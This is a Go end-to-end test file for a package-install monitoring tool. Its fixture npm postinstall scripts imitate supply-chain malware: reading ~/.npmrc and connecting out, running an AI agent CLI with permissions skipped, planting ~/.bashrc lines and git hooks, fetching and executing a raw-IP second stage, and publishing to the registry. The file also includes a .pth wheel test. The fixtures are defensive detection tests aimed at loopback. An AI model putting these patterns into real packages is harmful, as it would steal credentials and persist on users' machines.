package e2e

import (
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/sandtrail/sandtrail/dnsproxy/dnstest"
	"github.com/sandtrail/sandtrail/record/event"
	"github.com/sandtrail/sandtrail/record/pkgview"
	"github.com/sandtrail/sandtrail/registry-mirror/npm/npmtest"
	"github.com/sandtrail/sandtrail/test/testnet"
)

// stageAddr is the loopback address the droppers' second stage is served
// on: reached by address it is a raw IP, by stage.test (which only the
// test's DNS upstream answers, to the session's DNS proxy) a name the
// session resolved.
const stageAddr = "127.0.0.5"

// installRule is a fixture npm package whose postinstall does what a rule
// looks for (or, for a control, nearly that), and the rule it must raise
// ("" for none of the install-time behaviour rules).
type installRule struct {
	pkg, script, rule string
}

// installRules are the fixture packages: each rule's and its control's.
// exfil is the port of a loopback listener, stage the stage server's.
func installRules(exfil, stage int) []installRule {
	connect := fmt.Sprintf(`const s=require('net').connect(%d,'127.0.0.1');s.on('connect',()=>s.end());s.on('error',()=>{});`, exfil)
	fakeTool := func(name, args string) string {
		return `mkdir -p .b && printf '#!/bin/sh\nexit 0\n' >.b/` + name + ` && chmod +x .b/` + name + ` && .b/` + name + " " + args
	}
	dropper := func(host, file string) string {
		return fmt.Sprintf(`node -e "const f=process.cwd()+'/%s';require('http').get('http://%s:%d/stage2',r=>{let b='';`+
			`r.on('data',d=>b+=d);r.on('end',()=>{require('fs').writeFileSync(f,b,{mode:0o755});`+
			`require('child_process').execFileSync(f,{stdio:'inherit'})})}).on('error',e=>{console.error(e.message);process.exit(1)})"`,
			file, host, stage)
	}
	put := func(method string) string {
		return `node -e "const u=new URL(process.env.npm_config_registry.replace(/\/?$/,'/')+'fx-victim');` +
			`const r=require('http').request(u,{method:'` + method + `'},s=>{s.resume();console.log('` + method + `',s.statusCode)});` +
			`r.on('error',e=>console.log(e.message));r.end('{}')"`
	}
	return []installRule{
		{"fx-exfil", `node -e "require('fs').readFileSync(require('os').homedir()+'/.npmrc');` + connect + `"`, pkgview.RuleCredentialExfil},
		{"fx-connect", `node -e "` + connect + `"`, ""},
		{"fx-npmrc-mirror", `node -e "require('fs').readFileSync(require('os').homedir()+'/.npmrc');` +
			strings.TrimPrefix(put("GET"), `node -e "`), ""},
		{"fx-agent", fakeTool("claude", "--dangerously-skip-permissions -p inventory"), pkgview.RuleAIAgentUnsafe},
		{"fx-agent-safe", fakeTool("claude", "--version"), ""},
		{"fx-persist", `echo 'echo fx-persist' >>"$HOME/.bashrc" && mkdir -p "$INIT_CWD/.git/hooks" && ` +
			`printf '#!/bin/sh\necho HOOK-RAN\n' >"$INIT_CWD/.git/hooks/post-merge" && chmod +x "$INIT_CWD/.git/hooks/post-merge"`,
			pkgview.RulePersistence},
		{"fx-persist-safe", `mkdir -p "$HOME/.cache" && echo x >"$HOME/.cache/fx-persist-safe"`, ""},
		{"fx-dropper", dropper(stageAddr, ".stage2"), pkgview.RuleRawIPExec},
		{"fx-dropper-dns", dropper("stage.test", ".stage2"), ""},
		{"fx-worm", put("PUT"), pkgview.RulePublish},
		{"fx-worm-safe", put("GET"), ""},
		{"fx-scan", fakeTool("trufflehog", "filesystem --json ."), pkgview.RuleSecretScanner},
		{"fx-scan-safe", fakeTool("lint", "--json ."), ""},
	}
}

// startStageServer serves a second stage, a shell script, on stageAddr.
func startStageServer(t *testing.T) int {
	ln, err := net.Listen("tcp", stageAddr+":0")
	if err != nil {
		t.Skipf("listening on %s: %v", stageAddr, err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "#!/bin/sh\necho STAGE2-RAN\n")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().(*net.TCPAddr).Port
}

// TestInstallRules: fixture npm packages, installed through the shim and
// the mirror under `sandtrail run`, whose postinstall scripts read
// ~/.npmrc and connect out, run an AI agent's CLI with its checks off,
// plant a shell startup file and a git hook (which the session then runs,
// and a shell reads), fetch a second stage by raw address and run it,
// publish to the registry, and run a credential scanner: each raises its
// rule live, in the journal, with the package named, and again in
// `sandtrail packages`; each control (the same without the part the rule
// looks for: a connection with nothing read, ~/.npmrc read and only the
// mirror asked, as a script's npm does, the CLI with its checks on, a
// cache file, the stage by a name the session resolved, a GET, another
// tool) raises none. A package whose payload runs only when it is
// required has no install-time activity, which its row says.
func TestInstallRules(t *testing.T) {
	t.Parallel()
	exfil := testnet.StartDropServer(t, "tcp", "127.0.0.1:0").Addr().(*net.TCPAddr).Port
	stage := startStageServer(t)
	up := dnstest.Start(t, "127.0.0.1", dnstest.Zone{"stage.test.": {"stage.test. 300 IN A " + stageAddr}})
	rules := installRules(exfil, stage)
	var pkgs []npmtest.Package
	var names []string
	for _, r := range rules {
		pkgs = append(pkgs, npmtest.Package{Name: r.pkg, Versions: []npmtest.Version{{Version: "1.0.0",
			Scripts: map[string]string{"postinstall": r.script}}}})
		names = append(names, r.pkg+"@1.0.0")
	}
	// A payload that runs only when the package is required: nothing at
	// install time.
	pkgs = append(pkgs, npmtest.Package{Name: "fx-import-only", Versions: []npmtest.Version{{Version: "1.0.0",
		Files: map[string]string{"index.js": "require('fs').readFileSync(require('os').homedir()+'/.npmrc')\n"}}}})
	names = append(names, "fx-import-only@1.0.0")
	reg := npmtest.Start(t, pkgs...)
	e, _ := fixtureEnv(t, reg)
	pol := writePolicy(t, fmt.Sprintf("sources:\n  registries:\n    npm: [%s/]\nfiles:\n  sensitive_read: [~/.npmrc, ~/.bashrc]\n", reg.URL))
	script := `echo '//registry.example.invalid/:_authToken=secret' >"$HOME/.npmrc"; ` + npmInstall(strings.Join(names, " ")) +
		"\n" + `"$HOME/p/.git/hooks/post-merge"; bash -ic true </dev/null >/dev/null 2>&1; true`
	r := e.run("--user", "nobody", "--policy", pol, "--dns-upstream", up.Addr, "--timeout", "4m", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("npm install: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "HOOK-RAN") {
		t.Errorf("the planted git hook did not run:\n%s", r.stdout)
	}
	if n := up.Count("stage.test."); n == 0 {
		t.Errorf("the DNS upstream saw no query for stage.test: the control fetched its stage by address")
	}
	evs := e.events(r.summary.SessionID)
	live := rulePackages(kinds(evs, event.KindAlert))
	v := e.packagesView(r.summary.SessionID)
	view := rulePackages(v.Alerts)
	activity := map[string]string{}
	for _, p := range v.Packages {
		activity[p.Name] = p.InstallActivity
	}
	if activity["fx-import-only"] != pkgview.ActivityNone || activity["fx-exfil"] != pkgview.ActivityScripts {
		t.Errorf("install_activity: fx-import-only %q, fx-exfil %q; want %s, %s", activity["fx-import-only"], activity["fx-exfil"],
			pkgview.ActivityNone, pkgview.ActivityScripts)
	}
	if len(live["pkg:npm/fx-import-only@1.0.0"]) != 0 {
		t.Errorf("alerts naming fx-import-only, which ran nothing at install: %q", live["pkg:npm/fx-import-only@1.0.0"])
	}
	for _, ir := range rules {
		purl := "pkg:npm/" + ir.pkg + "@1.0.0"
		want := []string{}
		if ir.rule != "" {
			want = append(want, ir.rule)
		}
		if ir.rule == pkgview.RulePersistence {
			want = []string{pkgview.RulePersistence, pkgview.RulePlantedRan}
		}
		for what, got := range map[string]map[string][]string{"journal": live, "sandtrail packages": view} {
			if g := got[purl]; !slices.Equal(sortedCopy(g), sortedCopy(want)) {
				t.Errorf("%s: alerts naming %s = %q, want %q", what, purl, g, want)
			}
		}
	}
	checkPlantedRan(t, evs)
	if t.Failed() {
		t.Logf("alerts:\n%s", alertLines(evs))
		logPublishes(t, evs)
	}
	e.verify()
}

// logPublishes logs the mirror's records of refused publishes and the
// process events of their processes, in journal order.
func logPublishes(t *testing.T, evs []*event.Event) {
	pids := map[int32]bool{}
	for _, ev := range kinds(evs, event.KindPkgFetch) {
		if ev.Pkg.Rule == pkgview.PublishRefusedRule && ev.Proc != nil {
			pids[ev.Proc.Pid] = true
		}
	}
	for _, ev := range evs {
		if ev.Proc != nil && pids[ev.Proc.Pid] && (ev.Kind == event.KindPkgFetch || ev.Category() == "process") {
			t.Logf("seq %d %s pid %d ppid %d %q cwd %s", ev.Seq, ev.Kind, ev.Proc.Pid, ev.Proc.PPid, ev.Proc.Argv, ev.Proc.Cwd)
		}
	}
}

// checkPlantedRan checks the two planted_file_ran alerts' evidence: the
// session's run of the planted git hook, and bash's read of the planted
// ~/.bashrc.
func checkPlantedRan(t *testing.T, evs []*event.Event) {
	t.Helper()
	bySeq := map[uint64]*event.Event{}
	for _, ev := range evs {
		bySeq[ev.Seq] = ev
	}
	var got []string
	for _, a := range kinds(evs, event.KindAlert) {
		if a.Alert.RuleID != pkgview.RulePlantedRan || len(a.Alert.Refs) == 0 {
			continue
		}
		switch ev := bySeq[a.Alert.Refs[len(a.Alert.Refs)-1]]; {
		case ev == nil:
			got = append(got, "missing")
		case ev.Kind == event.KindExec && strings.HasSuffix(ev.Proc.Exe, "/.git/hooks/post-merge"):
			got = append(got, "hook run")
		case ev.Kind == event.KindFileRead && strings.HasSuffix(ev.File.Path, "/.bashrc"):
			got = append(got, ev.Proc.Comm+" read .bashrc")
		default:
			got = append(got, fmt.Sprintf("%s %+v", ev.Kind, ev.Proc))
		}
	}
	slices.Sort(got)
	if want := []string{"bash read .bashrc", "hook run"}; !slices.Equal(got, want) {
		t.Errorf("%s evidence = %q, want %q", pkgview.RulePlantedRan, got, want)
	}
}

// rulePackages maps each package an install-time behaviour alert names to
// the rule ids, one per rule.
func rulePackages(alerts []*event.Event) map[string][]string {
	out := map[string][]string{}
	for _, a := range alerts {
		if a.Alert == nil || a.Alert.Package == "" {
			continue
		}
		if !slices.Contains(out[a.Alert.Package], a.Alert.RuleID) {
			out[a.Alert.Package] = append(out[a.Alert.Package], a.Alert.RuleID)
		}
	}
	return out
}

func sortedCopy(s []string) []string {
	c := slices.Clone(s)
	slices.Sort(c)
	return c
}

// wheelScript is a session script that builds a wheel of name 1.0 in
// $HOME with python's zipfile, with a .pth file in it when pth is set,
// and installs it for the user through the pip shim.
func wheelScript(name string, pth bool) string {
	mod := strings.ReplaceAll(name, "-", "_")
	files := map[string]string{
		mod + "/__init__.py":                 "",
		mod + "-1.0.dist-info/METADATA":      "Metadata-Version: 2.1\\nName: " + name + "\\nVersion: 1.0\\n",
		mod + "-1.0.dist-info/WHEEL":         "Wheel-Version: 1.0\\nGenerator: sandtrail-e2e\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
		mod + "-1.0.dist-info/top_level.txt": mod + "\\n",
	}
	if pth {
		files[mod+"_init.pth"] = "import os\\n"
	}
	var py strings.Builder
	fmt.Fprintf(&py, "import zipfile,os\nw=os.path.expanduser('~/%s-1.0-py3-none-any.whl')\nz=zipfile.ZipFile(w,'w')\nrec=[]\n", mod)
	for _, p := range sortedKeysOf(files) {
		fmt.Fprintf(&py, "z.writestr('%s','%s'); rec.append('%s,,')\n", p, files[p], p)
	}
	fmt.Fprintf(&py, "rec.append('%s-1.0.dist-info/RECORD,,')\nz.writestr('%s-1.0.dist-info/RECORD','\\n'.join(rec)+'\\n')\nz.close()\n", mod, mod)
	return "python3 - <<'EOF'\n" + py.String() + "EOF\n" +
		`pip install --disable-pip-version-check --no-input --no-index --user --break-system-packages "$HOME/` + mod + `-1.0-py3-none-any.whl"`
}

func sortedKeysOf(m map[string]string) []string {
	var k []string
	for s := range m {
		k = append(k, s)
	}
	slices.Sort(k)
	return k
}

// TestInstallRulesPth: a wheel that installs a .pth file into the user's
// site-packages, through the pip shim, raises wheel_pth_file naming it,
// live and in `sandtrail packages`; the same wheel without the .pth (the
// control) raises nothing of the kind.
func TestInstallRulesPth(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pol := writePolicy(t, "sources:\n  registries:\n    pypi: [https://pypi.org/simple/, https://files.pythonhosted.org/packages/]\n  allow_direct_urls: true\n")
	r := e.run("--user", "nobody", "--policy", pol, "--timeout", "3m", "--", "sh", "-c",
		"set -e\n"+wheelScript("fx-pth", true)+"\n"+wheelScript("fx-nopth", false)+"\nls \"$HOME\"/.local/lib/python3*/site-packages")
	if r.code != 0 {
		t.Fatalf("pip install: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "fx_pth_init.pth") {
		t.Fatalf("no fx_pth_init.pth in site-packages:\n%s", r.stdout)
	}
	evs := e.events(r.summary.SessionID)
	want := map[string][]string{"pkg:pypi/fx-pth@1.0": {pkgview.RulePthFile}}
	for what, alerts := range map[string][]*event.Event{"journal": kinds(evs, event.KindAlert),
		"sandtrail packages": e.packagesView(r.summary.SessionID).Alerts} {
		got := rulePackages(alerts)
		for _, control := range []string{"pkg:pypi/fx-nopth@1.0"} {
			if len(got[control]) != 0 {
				t.Errorf("%s: alerts naming %s = %q, want none", what, control, got[control])
			}
		}
		for p, w := range want {
			if !slices.Equal(got[p], w) {
				t.Errorf("%s: alerts naming %s = %q, want %q", what, p, got[p], w)
			}
		}
	}
	pth := 0
	for _, a := range kinds(evs, event.KindAlert) {
		if a.Alert.RuleID == pkgview.RulePthFile {
			pth++
		}
	}
	if pth != 1 {
		t.Errorf("%d %s alerts, want 1:\n%s", pth, pkgview.RulePthFile, alertLines(evs))
	}
	e.verify()
}
